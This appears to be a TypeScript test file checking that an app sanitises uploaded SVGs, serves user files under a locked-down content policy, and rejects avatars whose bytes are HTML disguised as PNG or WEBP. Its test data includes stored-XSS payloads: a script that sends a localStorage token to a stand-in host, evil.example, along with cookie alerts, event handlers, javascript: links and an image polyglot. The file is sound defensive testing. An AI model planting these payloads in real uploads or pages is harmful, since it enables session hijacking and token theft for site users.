/**
 * Stored XSS through uploads: an SVG with script is stored sanitised, every user file is served so that opened
 * directly it loads and runs nothing, and an avatar whose bytes are not the image type declared is refused.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { FileUpload } from '@mapnest/shared/files';
import { baseUrl, call, createUser, eventually, rawCall, type TestUser } from '../helpers/stack';
import { postUpload, type PresignedPost } from '../helpers/accounts';

let owner: TestUser;
beforeAll(async () => {
  owner = await createUser();
});

const EVIL_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" onload="alert(document.cookie)">
  <script>fetch('https://evil.example/?t=' + localStorage.getItem('token'))</script>
  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>
  <a xlink:href="javascript:alert(2)"><rect id="room-1" width="10" height="10" fill="#0a0"/></a>
  <use href="https://evil.example/sprite.svg#icon"/>
  <text x="1" y="20">Ground floor</text>
</svg>`;

describe('SVG uploads', () => {
  it('stores an SVG with script sanitised: the shapes stay, scripts, handlers, foreign objects and external references go', async () => {
    const body = Buffer.from(EVIL_SVG);
    const post = await call<FileUpload>(
      'createFileUpload',
      { fileName: 'plan.svg', contentType: 'image/svg+xml', size: body.length },
      owner,
    );
    expect((await postUpload(post, body, 'image/svg+xml', 'plan.svg')).status).toBe(204);
    // The upload is sanitised after it is stored: read it until the sanitised file is there.
    const stored = async () => {
      const res = await fetch(`${baseUrl()}${post.fileUrl}`);
      return res.status === 200 ? await res.text() : '';
    };
    const text = await eventually(stored, (t) => t !== '' && !t.includes('<script'));
    expect(text).toContain('id="room-1"');
    expect(text).toContain('Ground floor');
    expect(text).not.toMatch(/<script|onload|onerror|foreignObject|javascript:|evil\.example/i);
  });

  it('is cacheable only once checked: the raw upload for no time, the sanitised file for a year', async () => {
    const body = Buffer.from(EVIL_SVG);
    const post = await call<FileUpload>(
      'createFileUpload',
      { fileName: 'cached.svg', contentType: 'image/svg+xml', size: body.length },
      owner,
    );
    expect((await postUpload(post, body, 'image/svg+xml', 'cached.svg')).status).toBe(204);
    // Fetched at once, as the editor does: whatever it gets (the raw bytes, most likely), no cache may keep it.
    const first = await fetch(`${baseUrl()}${post.fileUrl}`);
    const firstText = await first.text();
    if (firstText.includes('<script')) expect(first.headers.get('cache-control')).toBe('no-store');
    else expect(first.headers.get('cache-control')).not.toMatch(/max-age=31536000/);
    const checked = await eventually(
      async () => {
        const res = await fetch(`${baseUrl()}${post.fileUrl}`);
        return { text: await res.text(), cacheControl: res.headers.get('cache-control') };
      },
      (r) => r.cacheControl === 'public, max-age=31536000, immutable',
    );
    expect(checked.text).toContain('id="room-1"');
    expect(checked.text).not.toContain('<script');
  });

  it('never makes a refused upload cacheable: HTML sent as a PNG is served uncached until it is removed', async () => {
    const html = Buffer.from('<html><script>alert(document.domain)</script></html>');
    const post = await call<FileUpload>(
      'createFileUpload',
      { fileName: 'plan.png', contentType: 'image/png', size: html.length },
      owner,
    );
    expect((await postUpload(post, html, 'image/png', 'plan.png')).status).toBe(204);
    const first = await fetch(`${baseUrl()}${post.fileUrl}`);
    if (first.status === 200) expect(first.headers.get('cache-control')).not.toMatch(/max-age=31536000/);
    await eventually(
      () => fetch(`${baseUrl()}${post.fileUrl}`).then((res) => res.status),
      (status) => status === 404,
    );
  });

  it('serves user files with a CSP that loads and runs nothing, sandboxed, and nosniff', async () => {
    const body = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>');
    const post = await call<FileUpload>(
      'createFileUpload',
      { fileName: 'dot.svg', contentType: 'image/svg+xml', size: body.length },
      owner,
    );
    expect((await postUpload(post, body, 'image/svg+xml', 'dot.svg')).status).toBe(204);
    const res = await fetch(`${baseUrl()}${post.fileUrl}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('avatars', () => {
  it('refuses HTML bytes uploaded as image/png, and removes them', async () => {
    const html = Buffer.from('<html><script>alert(document.domain)</script></html>');
    const post = await call<PresignedPost>(
      'createAvatarUpload',
      { fileName: 'me.png', contentType: 'image/png', size: html.length },
      owner,
    );
    expect((await postUpload(post, html, 'image/png', 'me.png')).status).toBe(204);
    const answer = await rawCall('setAvatar', { extension: 'png' }, { token: owner.token });
    expect(answer.status).toBe(400);
    expect((await fetch(`${baseUrl()}/files/${post.key}`)).status).toBe(404);
  });

  it('refuses a WEBP header followed by HTML: the whole file must decode as the type declared', async () => {
    const html = Buffer.from('<html><script>alert(document.domain)</script></html>');
    const header = Buffer.from('RIFF\x00\x00\x00\x00WEBPVP8 \x20\x00\x00\x00', 'latin1');
    const body = Buffer.concat([header, html]);
    body.writeUInt32LE(body.length - 8, 4);
    const post = await call<PresignedPost>(
      'createAvatarUpload',
      { fileName: 'me.webp', contentType: 'image/webp', size: body.length },
      owner,
    );
    expect((await postUpload(post, body, 'image/webp', 'me.webp')).status).toBe(204);
    const answer = await rawCall('setAvatar', { extension: 'webp' }, { token: owner.token });
    expect(answer).toMatchObject({
      status: 400,
      body: { error: { message: 'Only JPG, PNG, or WEBP images are allowed' } },
    });
    expect((await fetch(`${baseUrl()}/files/${post.key}`)).status).toBe(404);
  });
});
